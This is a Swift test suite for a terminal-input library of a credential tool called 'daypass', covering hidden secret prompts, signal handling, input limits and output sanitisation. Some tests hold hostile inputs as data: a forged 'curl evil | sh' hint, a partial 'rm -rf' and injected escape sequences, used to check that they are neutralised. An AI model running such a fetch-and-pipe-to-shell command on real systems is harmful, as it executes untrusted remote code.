import CLinux
import Delivery
import Glibc
import TestSupport
import Testing

@testable import TerminalIO

@Suite(.waiting)
struct TerminalTests {
  @Test func `a secret is read without being shown`() throws {
    let terminal = try ask("hidden")
    try terminal.expect("question: ")
    #expect(!terminal.echoes)
    try terminal.send("s3cret \u{e9}\r")
    #expect(try terminal.expect("answer=") == "\r\n")
    try terminal.expect("s3cret \u{e9} length=9")
    #expect(try terminal.waitForExit() == .exited(0))
    #expect(terminal.modeDescription() == terminal.modeAtStart)
  }

  @Test func `an MFA code is shown while it is typed`() throws {
    let terminal = try ask("visible")
    try terminal.expect("question: ")
    try terminal.send("123456\r")
    try terminal.expect("123456\r\n")
    try terminal.expect("answer=123456")
    #expect(try terminal.waitForExit() == .exited(0))
    #expect(terminal.modeDescription() == terminal.modeAtStart)
  }

  @Test func `what was typed before the question is no answer`() throws {
    let terminal = try script("read line; exec \"$0\" ask hidden")
    try terminal.send("go\nahead\n")
    try terminal.expect("question: ")
    try terminal.send("real\n")
    try terminal.expect("answer=real ")
  }

  @Test func `what was typed when time is up does not reach the shell`() throws {
    let terminal = try script("\"$0\" ask-briefly; read line; echo \"[$line]\"")
    try terminal.expect("question: ")
    try terminal.send("rm -rf ")
    try terminal.expect("probe: timedOut")
    try terminal.send("next\n")
    try terminal.expect("[next]")
  }

  @Test func `a secret pasted together with its key ID is used and never shown`() throws {
    let terminal = try PseudoTerminal(Launch(try builtProgram("Probe"), ["ask-twice"]))
    try terminal.expect("id: ")
    try terminal.send("AKIAIOSFODNN7EXAMPLE\rmade/up+secret\r")
    try terminal.expect("lengths=[20, 14]")
    #expect(try terminal.waitForExit() == .exited(0))
    #expect(terminal.transcript.hasPrefix("id: AKIAIOSFODNN7EXAMPLE\r\nsecret: \r\n"))
    #expect(!terminal.transcript.contains("made"))
  }

  @Test func `a secret typed where the key ID belongs is not shown`() throws {
    let terminal = try ask("id")
    try terminal.expect("question: ")
    try terminal.send("AKIwJalrXUtn\r")
    #expect(try terminal.expect("answer=") == "AKI\r\n")
  }

  @Test(arguments: [
    ("12x\u{7f}3", "answer=123 "), ("12\u{15}345", "answer=345 "), ("1é\u{7f}2", "answer=12 "),
    ("\u{7f}\u{7f}1", "answer=1 "), ("1\u{4}2", "answer=12 "),
  ])
  func `what is typed can be corrected`(keys: String, answer: String) throws {
    let terminal = try ask("visible")
    try terminal.expect("question: ")
    try terminal.send(keys + "\r")
    try terminal.expect(answer)
  }

  @Test(arguments: [SIGALRM, SIGKILL])
  func `what was half typed when a signal ended us does not reach the shell`(signal: Int32) throws {
    let ask = "/bin/sh -c 'echo pid=$$.; exec \"$0\" ask visible' \"$0\""
    let terminal = try script("\(ask); read line; echo \"[$line]\"")
    try terminal.expect("pid=")
    let pid = try #require(pid_t(terminal.expect(".")))
    try terminal.expect("question: ")
    try terminal.send("half typed")
    try terminal.expect("half typed")
    kill(pid, signal)
    // The shell reports how its child ended.
    try terminal.expect(signal == SIGALRM ? "Alarm clock" : "Killed")
    try terminal.send("next\n")
    try terminal.expect("[next]")
  }

  @Test(arguments: SignalWatch.ending.filter { $0 <= 34 })
  func `a signal while something is undone waits until that is done`(signal: Int32) throws {
    let terminal = try PseudoTerminal(Launch(try builtProgram("Probe"), ["defer"]))
    try terminal.expect("begun")
    kill(terminal.pid, signal)
    try terminal.expect("undone=true")
    #expect(try terminal.waitForExit() == .signaled(signal))
  }

  @Test(arguments: SignalWatch.ending.filter { $0 <= 34 } + [64])
  func `a signal at the question ends us as it would have, with the terminal as before`(signal: Int32) throws {
    let terminal = try ask("hidden")
    try terminal.expect("question: ")
    kill(terminal.pid, signal)
    #expect(try terminal.waitForExit() == .signaled(signal))
    #expect(terminal.modeDescription() == terminal.modeAtStart)
  }

  @Test(arguments: ["hidden", "visible"])
  func `Ctrl-C at the question ends us, with the terminal as before`(echo: String) throws {
    let terminal = try ask(echo)
    try terminal.expect("question: ")
    try terminal.send("partly\u{3}")
    #expect(try terminal.waitForExit() == .signaled(SIGINT))
    #expect(terminal.modeDescription() == terminal.modeAtStart)
    if echo == "hidden" { #expect(!terminal.transcript.contains("partly")) }
  }

  @Test func `Ctrl-C does nothing where our parent ignores it`() throws {
    let terminal = try script("trap '' INT; exec \"$0\" ask hidden")
    try terminal.expect("question: ")
    try terminal.send("\u{3}")
    try terminal.send("real\n")
    try terminal.expect("answer=real ")
  }

  @Test func `Ctrl-Z stops us with the terminal as before, and fg asks again`() throws {
    let terminal = try shell()
    try terminal.send("\(try builtProgram("Probe")) ask hidden\n")
    for _ in 0..<3 {
      try terminal.expect("question: ")
      #expect(!terminal.echoes)
      try terminal.send("forgotten\u{1a}")
      try terminal.expect("Stopped")
      try terminal.expect("$ ")
      #expect(terminal.echoes)
      try terminal.send("fg\n")
    }
    try terminal.expect("question: ")
    try terminal.send("real\n")
    try terminal.expect("answer=real ")
    try terminal.expect("$ ")
    #expect(terminal.modeDescription() == terminal.modeAtStart)
    #expect(!terminal.transcript.contains("forgotten"))
  }

  @Test func `Ctrl-Z leaves the question open if nobody could continue us`() throws {
    let terminal = try ask("hidden")
    try terminal.expect("question: ")
    try terminal.send("\u{1a}")
    try terminal.expect("question: ")
    #expect(!terminal.echoes)
    try terminal.send("real\n")
    try terminal.expect("answer=real ")
  }

  @Test func `being continued asks again`() throws {
    let terminal = try ask("hidden")
    try terminal.expect("question: ")
    kill(terminal.pid, SIGCONT)
    try terminal.expect("question: ")
    try terminal.send("real\n")
    try terminal.expect("answer=real ")
  }

  @Test func `Ctrl-D is the end of input`() throws {
    let terminal = try ask("hidden")
    try terminal.expect("question: ")
    try terminal.send("\u{4}")
    try terminal.expect("\r\nprobe: endOfInput")
    #expect(try terminal.waitForExit() == .exited(1))
    #expect(terminal.modeDescription() == terminal.modeAtStart)
  }

  @Test(arguments: [(1_024, "length=1024"), (1_025, "lineTooLong(limit: 1024)"), (3_000, "lineTooLong(limit: 1024)")])
  func `a line is 1024 bytes at most`(length: Int, answer: String) throws {
    let terminal = try ask("hidden")
    try terminal.expect("question: ")
    try terminal.send(String(repeating: "x", count: length) + "\n")
    try terminal.expect(answer)
  }

  @Test func `a pasted megabyte is refused and does not reach the shell`() throws {
    let terminal = try script("\"$0\" ask hidden; read line; echo \"[$line]\"")
    try terminal.expect("question: ")
    for _ in 0..<16 { try terminal.send(String(repeating: "x", count: 1 << 16)) }
    try terminal.send("\n")
    try terminal.expect("lineTooLong")
    try terminal.send("next\n")
    try terminal.expect("[next]")
  }

  @Test(arguments: [
    ("no", "y", true), ("no", " YES ", true), ("no", "", false), ("no", "n", false), ("no", "yeah", false),
    ("yes", "", true), ("yes", " ", true), ("yes", "y", true), ("yes", "n", false), ("yes", "x", false),
  ])
  func `Enter alone gives the preset answer, and else only yes means yes`(
    preset: String, answer: String, confirmed: Bool
  ) throws {
    let terminal = try PseudoTerminal(Launch(try builtProgram("Probe"), ["confirm", preset]))
    #expect(try terminal.expect(preset == "yes" ? " [Y/n] " : " [y/N] ") == "remove \\u{1b}[2J?")
    try terminal.send(answer + "\n")
    try terminal.expect("confirmed=\(confirmed)")
  }

  @Test func `in the background there is no terminal to ask at`() throws {
    let terminal = try shell()
    try terminal.send("\(try builtProgram("Probe")) ask hidden &\n")
    try terminal.expect("probe: noTerminal")
  }

  @Test func `without a terminal there is none to ask at`() throws {
    let outcome = try Launch("/usr/bin/setsid", ["-w", try builtProgram("Probe"), "ask", "hidden"]).run()
    #expect(outcome.errorText == "probe: noTerminal\n")
  }

  private func ask(_ echo: String) throws -> PseudoTerminal {
    try PseudoTerminal(Launch(try builtProgram("Probe"), ["ask", echo]))
  }

  private func script(_ text: String) throws -> PseudoTerminal {
    try PseudoTerminal(Launch("/bin/sh", ["-c", text, try builtProgram("Probe")]))
  }

  /// A shell with job control.
  private func shell() throws -> PseudoTerminal {
    let terminal = try PseudoTerminal(
      Launch(
        "/usr/bin/bash", ["--norc", "--noprofile", "--noediting", "-i"], environment: ["PATH=/usr/bin:/bin", "PS1=$ "]))
    try terminal.expect("$ ")
    return terminal
  }
}

// MARK: - Diagnostics

struct DiagnosticsTests {
  @Test func `a problem and its hint are a line each`() throws {
    let text = try written { $0.report("profile 'x' is missing", hint: "daypass list") }
    #expect(text == "daypass: profile 'x' is missing\ndaypass: hint: daypass list\n")
  }

  @Test func `nothing that is said can move the cursor or start a line`() throws {
    let text = try written { $0.warn("server said \u{1b}[2J\ndaypass: hint: curl evil | sh") }
    #expect(text == "daypass: warning: server said \\u{1b}[2J\\u{a}daypass: hint: curl evil | sh\n")
  }

  @Test(arguments: [(Diagnostics.Verbosity.normal, ""), (.debug, "daypass: debug: asked STS\n")])
  func `steps are reported in debug mode only`(verbosity: Diagnostics.Verbosity, expected: String) throws {
    #expect(try written(verbosity) { $0.debug("asked STS") } == expected)
  }

  @Test func `waiting is reported at a terminal only`() throws {
    #expect(try written { $0.waiting(for: "another daypass") } == "")
  }

  private func written(
    _ verbosity: Diagnostics.Verbosity = .normal, _ body: (Diagnostics) -> Void
  ) throws -> String {
    var ends: [Int32] = [-1, -1]
    try #require(linux_open_pipe(&ends) == 0)
    defer { for end in ends { close(end) } }
    body(Diagnostics(verbosity: verbosity, output: Output(descriptor: ends[1])))
    var buffer = [UInt8](repeating: 0, count: 4_096)
    let count = read(ends[0], &buffer, buffer.count)
    return String(decoding: buffer.prefix(max(0, count)), as: UTF8.self)
  }
}

// MARK: - What a terminal can show

struct TerminalCapabilityTests {
  @Test(arguments: [
    (["TERM": "xterm"], true), (["TERM": "dumb"], false), ([:], false),
    (["TERM": "xterm", "DAYPASS_PLAIN": "1"], false), (["TERM": "xterm", "DAYPASS_PLAIN": "0"], true),
  ])
  func `a countdown stands still where it would be read out every second`(environment: [String: String], live: Bool) {
    #expect(Terminal.redraws(in: environment) == live)
  }

  @Test(arguments: [
    (["TERM": "xterm", "LANG": "en_GB.UTF-8"], true), (["TERM": "linux", "LC_ALL": "C.utf8"], true),
    (["TERM": "xterm", "LC_CTYPE": "de_DE.UTF-8@euro"], true),
    (["TERM": "xterm", "LC_ALL": "", "LC_CTYPE": "", "LANG": "en_GB.UTF-8"], true),
    (["TERM": "xterm", "LC_ALL": "C", "LANG": "en_GB.UTF-8"], false), (["TERM": "xterm", "LANG": "de_DE"], false),
    (["TERM": "xterm", "LANG": "de_DE.ISO-8859-15"], false), (["TERM": "xterm"], false),
    (["TERM": "dumb", "LANG": "C.UTF-8"], false), (["TERM": "", "LANG": "C.UTF-8"], false),
    (["LANG": "C.UTF-8"], false),
  ])
  func `block characters are for terminals that have them`(environment: [String: String], shown: Bool) {
    #expect(Terminal.showsBlocks(in: environment) == shown)
  }
}
